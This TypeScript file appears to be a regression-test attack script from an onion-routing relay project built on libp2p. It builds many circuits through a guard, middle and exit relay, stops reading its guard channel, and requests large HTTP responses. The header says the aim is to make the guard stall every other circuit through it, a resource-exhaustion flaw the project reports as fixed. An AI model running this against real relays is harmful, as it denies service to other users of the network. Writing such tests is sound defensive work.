// Attack script (hardening issue, class 7): a client that stops reading. A stock libp2p host (its yamux
// window held at the 256 KiB minimum) fetches the relays' own descriptors, builds `circuits` circuits
// through the given guard, middle and exit with the project's circuit code, opens `streams` streams on
// each, stops reading its channel to the guard, and only then asks each stream for `mib` MiB over HTTP.
// The exit sends what flow control lets it (1000 cells a circuit); the guard can pass 256 KiB of it on,
// and must hold the rest for us. Before the fix the guard stopped reading the channel from the middle
// for it, and every other circuit through that guard and middle froze.
//
// Args: {guard, middle, exit: {peerId, address}, target: {host, port, path}, circuits, streams,
//        holdMs?}. Reports, one JSON line each:
//   {phase: 'built', circuits, path: [guard, middle, exit], buildMs}
//   {phase: 'paused', circuits, streams, channels, requested, bytesBeforePause}
//   {phase: 'done', heldMs, bytesReceived}  (only with holdMs: it then resumes, reads, and exits)
// Without holdMs it holds until killed.
import { multiaddr } from '@multiformats/multiaddr';
import type { CircuitStream } from '../../../src/circuit/circuit-streams.ts';
import type { PathHop } from '../../../src/circuit/client-circuit.ts';
import { ClientCircuit } from '../../../src/circuit/client-circuit.ts';
import { CIRCUIT_PROTOCOL } from '../../../src/circuit/protocol.ts';
import { fetchPeerDescriptor } from '../../../src/directory/descriptor-protocol.ts';
import { selectOnionKey } from '../../../src/directory/verify-descriptor.ts';
import { clientStreams } from '../../../src/stream/stream-table.ts';
import { decodeDescriptor } from '../../../src/wire/descriptor.ts';
import { attackArgs, createAttackerHost, report } from './attacker-host.ts';

interface Relay {
  readonly peerId: string;
  readonly address: string;
}

interface Args {
  readonly guard: Relay;
  readonly middle: Relay;
  readonly exit: Relay;
  readonly target: { readonly host: string; readonly port: number; readonly path: string };
  readonly circuits: number;
  readonly streams: number;
  readonly holdMs?: number;
}

const args = attackArgs<Args>();
const host = await createAttackerHost({ maxStreamWindow: 256 * 1024 });

/** A relay as a hop: its own signed descriptor, fetched from it, gives its identity and onion key. */
async function hop(r: Relay): Promise<PathHop> {
  const address = multiaddr(r.address);
  await host.dial(address, { signal: AbortSignal.timeout(10_000) });
  const bytes = await fetchPeerDescriptor(host, r.peerId, AbortSignal.timeout(10_000));
  const decoded = decodeDescriptor(bytes);
  if (decoded.kind !== 'ok') throw new Error(`descriptor of ${r.peerId}: ${decoded.kind}`);
  const d = decoded.value.descriptor;
  const onionKey = selectOnionKey(d.onionKeys, Date.now(), 60_000);
  if (onionKey === undefined) throw new Error(`no usable onion key for ${r.peerId}`);
  return { peerId: r.peerId, identityKey: d.identityKey, onionKey, addresses: [address] };
}

const path = [await hop(args.guard), await hop(args.middle), await hop(args.exit)];
const started = performance.now();
const circuits: ClientCircuit[] = [];
for (let i = 0; i < args.circuits; i++)
  circuits.push(
    await ClientCircuit.build(host, path, AbortSignal.timeout(20_000), { streams: clientStreams }),
  );
report({
  phase: 'built',
  circuits: circuits.length,
  path: path.map((h) => h.peerId),
  buildMs: Math.round(performance.now() - started),
});

const streams: CircuitStream[] = [];
for (const c of circuits)
  for (let i = 0; i < args.streams; i++) {
    const s = await c.openStream(args.target.host, args.target.port, AbortSignal.timeout(20_000));
    s.on('error', () => {});
    streams.push(s);
  }
// Stop reading: every circuit channel of this host (one, to the guard) is paused, so yamux grants no
// more window and the guard's writes to us stop after 256 KiB.
const channels = host
  .getConnections()
  .flatMap((c) => c.streams.filter((s) => s.protocol === CIRCUIT_PROTOCOL));
for (const ch of channels) ch.pause();
const bytesBefore = circuits.reduce((n, c) => n + c.streams.bytesIn, 0);
for (const s of streams)
  s.write(`GET ${args.target.path} HTTP/1.1\r\nHost: ${args.target.host}\r\nConnection: close\r\n\r\n`);
report({
  phase: 'paused',
  circuits: circuits.length,
  streams: streams.length,
  channels: channels.length,
  requested: args.target.path,
  bytesBeforePause: bytesBefore,
});

if (args.holdMs !== undefined) {
  await new Promise((r) => setTimeout(r, args.holdMs));
  let received = 0;
  for (const s of streams)
    s.on('data', (b: Buffer) => {
      received += b.length;
    });
  for (const ch of channels) ch.resume();
  await new Promise((r) => setTimeout(r, 1_000));
  report({ phase: 'done', heldMs: args.holdMs, bytesReceived: received });
  for (const c of circuits) c.close();
  await host.stop();
} else {
  // Held until the test kills this process.
  setInterval(() => {}, 60_000);
}
